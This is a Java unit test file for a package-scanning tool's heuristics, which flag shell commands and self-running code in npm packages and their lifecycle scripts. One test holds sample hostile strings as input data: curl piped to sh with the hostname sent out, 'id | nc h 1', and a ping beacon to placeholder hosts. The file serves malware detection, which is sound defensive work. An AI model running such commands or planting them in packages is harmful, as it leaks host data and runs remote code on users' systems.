package dev.bulwark.analysis.heuristics;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.bulwark.analysis.content.ContentSniffer;
import dev.bulwark.analysis.content.ContentType;
import dev.bulwark.analysis.content.ScanFile;
import dev.bulwark.analysis.rules.Hit;
import dev.bulwark.analysis.rules.Scope;
import dev.bulwark.model.Ecosystem;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Table-driven cases of the shell and self-running-code heuristics. Each case under
 * {@code testdata/<heuristic>/} is a small package: {@code === path} lines start its files. A
 * {@code pos-*} case must make the heuristic fire on some file (lifecycle scripts included), a
 * {@code neg-*} case on none.
 */
class RunSurfaceHeuristicTest {
  private static final ObjectMapper JSON = new ObjectMapper();

  static Stream<Arguments> cases() {
    return RunSurfaceHeuristic.all().stream().flatMap(h -> names(h.name()).map(c -> Arguments.of(h.name(), c)));
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("cases")
  void firesOnPositivesOnly(String heuristic, String caseName) throws IOException {
    Heuristic h = RunSurfaceHeuristic.all().stream().filter(x -> x.name().equals(heuristic)).findFirst().orElseThrow();
    Map<String, String> files = files(Files.readString(dir(heuristic).resolve(caseName), StandardCharsets.UTF_8));
    List<String> fired = fired(h, files);
    if (caseName.startsWith("pos-")) {
      assertThat(fired).as(caseName).isNotEmpty();
    } else {
      assertThat(fired).as(caseName).isEmpty();
    }
  }

  @Test
  void everyHeuristicHasBothKindsOfCaseAndMetadata() {
    for (Heuristic h : RunSurfaceHeuristic.all()) {
      assertThat(names(h.name()).filter(c -> c.startsWith("pos-"))).as(h.name()).isNotEmpty();
      assertThat(names(h.name()).filter(c -> c.startsWith("neg-"))).as(h.name()).isNotEmpty();
      assertThat(h.meta().explanation().action()).isNotBlank();
      assertThat(BuiltinHeuristics.all().stream().map(Heuristic::name)).contains(h.name());
    }
  }

  @Test
  void execStringsBecomeShellText() {
    assertThat(ExecStrings.literalText("\"curl http://x/?h=\" + os.hostname() + ' | sh'"))
        .isEqualTo("curl http://x/?h=${HOSTNAME_JS} | sh");
    assertThat(ExecStrings.literalText("`ping ${name}.x.example`")).isEqualTo("ping ${V}.x.example");
    assertThat(ExecStrings.javascript("const cp = require('child_process'); cp.spawn('sh', ['-c', 'id | nc h 1'])"))
        .extracting(ExecStrings.Command::shell).containsExactly("id | nc h 1");
    assertThat(ExecStrings.python("import os\nos.system(f\"curl http://h/{socket.gethostname()}\")\n"))
        .extracting(ExecStrings.Command::shell).containsExactly("curl http://h/${HOSTNAME_JS}");
  }

  /** Paths (with the heuristic's detail) where the heuristic fires. */
  static List<String> fired(Heuristic h, Map<String, String> files) {
    Map<String, ContentType> types = new LinkedHashMap<>();
    files.forEach((p, text) -> types.put(p, ContentSniffer.sniff(p, text.getBytes(StandardCharsets.UTF_8))));
    PackageView pkg = new PackageView(Optional.of(Ecosystem.NPM), types, false,
        p -> Optional.ofNullable(files.get(p)));
    List<String> out = new ArrayList<>();
    for (Map.Entry<String, String> e : files.entrySet()) {
      byte[] bytes = e.getValue().getBytes(StandardCharsets.UTF_8);
      ContentType type = ContentSniffer.sniff(e.getKey(), bytes);
      List<ScanFile> all = new ArrayList<>();
      all.add(ScanFile.code(e.getKey(), type, e.getValue(), false));
      if (e.getKey().endsWith("package.json")) {
        all.addAll(scripts(e.getKey(), e.getValue()));
      }
      for (ScanFile f : all) {
        for (Hit hit : h.find(f, pkg, Map.of())) {
          out.add(f.path() + ": " + hit.detail());
        }
      }
    }
    return out;
  }

  private static List<ScanFile> scripts(String path, String json) {
    List<ScanFile> out = new ArrayList<>();
    try {
      JsonNode s = JSON.readTree(json).path("scripts");
      Iterator<Map.Entry<String, JsonNode>> it = s.fields();
      while (it.hasNext()) {
        Map.Entry<String, JsonNode> e = it.next();
        String p = path + "#scripts." + e.getKey();
        out.add(new ScanFile(p, p, ContentType.BASH, ContentType.BASH.language(), Scope.CODE, e.getValue().asText(),
            false, 0, ""));
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out;
  }

  static Map<String, String> files(String text) {
    Map<String, String> out = new LinkedHashMap<>();
    String path = null;
    StringBuilder b = new StringBuilder();
    for (String line : text.split("\n", -1)) {
      if (line.startsWith("=== ")) {
        if (path != null) {
          out.put(path, b.toString());
        }
        path = line.substring(4).trim();
        b.setLength(0);
      } else if (path != null) {
        b.append(line).append('\n');
      }
    }
    if (path != null) {
      out.put(path, b.toString());
    }
    return out;
  }

  private static Stream<String> names(String heuristic) {
    try (Stream<Path> s = Files.list(dir(heuristic))) {
      return s.map(p -> p.getFileName().toString()).sorted().toList().stream();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static Path dir(String heuristic) {
    try {
      return Path.of(RunSurfaceHeuristicTest.class.getResource("testdata/" + heuristic).toURI());
    } catch (URISyntaxException | NullPointerException e) {
      throw new IllegalStateException("no testdata for " + heuristic, e);
    }
  }
}
